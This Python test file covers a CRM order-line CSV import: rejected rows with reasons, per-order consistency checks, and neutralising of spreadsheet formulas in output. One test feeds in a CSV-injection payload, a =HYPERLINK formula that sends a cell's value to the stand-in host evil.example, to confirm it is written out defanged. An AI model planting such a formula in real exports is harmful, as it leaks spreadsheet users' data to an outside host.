from __future__ import annotations

import csv
from decimal import Decimal

from tenure.crm.catalog.models import Product
from tenure.crm.imports.running import run_import
from tenure.crm.sales.models import Order, OrderLine
from tenure.crm.testing import TenureTestCase

from .files import TempFiles

LINES = (
    "order_id,customer,date,product,quantity,price\n"
    "1,c1,2024-03-05,A,2,10.00\n"       # row 2: good
    "1,c1,2024-03-05,B,1,5.50\n"        # row 3: good
    "2,c2,2024-13-45,A,1,10.00\n"       # row 4: bad date
    "3,c3,2024-03-06,ZZZ,1,10.00\n"     # row 5: unknown product
    "3,c3,2024-03-06,A,-1,10.00\n"      # row 6: negative quantity, not a return
    "4,c4,05.03.2024,B,3,\"1,5\"\n"     # row 7: good
    "5,c5,yesterday,NOPE,1,x\n"         # row 8: three bad fields, one row
)


class RejectsTestCase(TenureTestCase):
    def setUp(self):
        self.files = TempFiles(self)
        Product.objects.create(sku="A", name="A")
        Product.objects.create(sku="B", name="B")

    def test_it_reports_exactly_the_bad_rows_and_loads_the_rest(self):
        path = self.files.text("lines.csv", LINES)
        rejects_path = self.files.path("out/rejects.csv")

        result = run_import("order-lines", path, rejects_path=rejects_path)

        self.assertEqual((result.rows, result.inserted, result.rejected), (7, 3, 4))
        self.assertEqual(result.rejects_path, str(rejects_path))
        with rejects_path.open(encoding="utf-8-sig", newline="") as source:
            lines = list(csv.reader(source))
        self.assertEqual(lines[0], ["row", "field", "value", "reason", "order_id", "customer",
                                    "date", "product", "quantity", "price"])
        self.assertEqual([line[:4] for line in lines[1:]], [
            ["4", "date", "2024-13-45", "not a date"],
            ["5", "product", "ZZZ", "unknown product"],
            ["6", "quantity", "-1", "quantity must be above zero; a negative quantity needs "
                                    "the line type 'return'"],
            ["8", "date", "yesterday", "not a date"],
            ["8", "product", "NOPE", "unknown product"],
            ["8", "price", "x", "not a number"],
        ])
        self.assertEqual(lines[2][4:], ["3", "c3", "2024-03-06", "ZZZ", "1", "10.00"])
        # Order 3 lost both its rows; orders 1 and 4 are whole.
        self.assertEqual(sorted(Order.objects.values_list("external_id", "total")),
                         [("1", Decimal("25.50")), ("4", Decimal("4.50"))])
        self.assertEqual(OrderLine.objects.count(), 3)
        self.assertEqual(result.run.rejected, 4)
        self.assertEqual(result.run.rejects_file, str(rejects_path))

    def test_it_writes_rejects_next_to_the_var_dir_by_default(self):
        path = self.files.text("lines.csv", LINES)

        result = run_import("order-lines", path)

        self.assertRegex(result.rejects_path, r"/imports/lines\.\d{8}-\d{6}\.rejects\.csv$")
        with open(result.rejects_path, encoding="utf-8-sig") as source:
            self.assertEqual(len(source.read().splitlines()), 7)

    def test_it_writes_no_rejects_file_when_every_row_is_good(self):
        path = self.files.text("lines.csv", LINES.split("\n2,")[0] + "\n")

        result = run_import("order-lines", path)

        self.assertEqual((result.inserted, result.rejected, result.rejects_path), (2, 0, ""))

    def test_it_rejects_lines_of_one_order_that_disagree_on_customer_or_date(self):
        path = self.files.text("lines.csv", (
            "order_id,customer,date,product,quantity,price\n"
            "9,c1,2024-03-05,A,1,1\n"
            "9,c2,2024-03-05,B,1,1\n"
            "9,c1,2024-03-07,B,1,1\n"
        ))

        result = run_import("order-lines", path, rejects_path=self.files.path("r.csv"))

        self.assertEqual((result.inserted, result.rejected), (1, 2))
        with self.files.path("r.csv").open(encoding="utf-8-sig") as source:
            rows = [line[:4] for line in csv.reader(source)][1:]
        reason = "differs from row 2 of the same order"
        self.assertEqual(rows, [["3", "customer", "c2", reason],
                                ["4", "date", "2024-03-07", reason]])
        self.assertEqual(Order.objects.get().total, Decimal("1.00"))

    def test_it_writes_no_value_a_spreadsheet_would_run_as_a_formula(self):
        hyperlink = '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")'
        path = self.files.text("orders.csv", (
            'order_id,customer,date,amount,"@note"\n'
            f'A1,"{hyperlink.replace(chr(34), chr(34) * 2)}",=1+2,-12.50,+380441234567\n'
        ))

        result = run_import("orders", path, rejects_path=self.files.path("r.csv"))

        self.assertEqual(result.rejected, 1)
        with self.files.path("r.csv").open(encoding="utf-8-sig", newline="") as source:
            header, line = list(csv.reader(source))
        self.assertEqual(header[4:], ["order_id", "customer", "date", "amount", "'@note"])
        self.assertEqual(line[:4], ["2", "date", "'=1+2", "not a date"])
        self.assertEqual(line[4:], ["A1", "'" + hyperlink, "'=1+2", "-12.50", "+380441234567"])
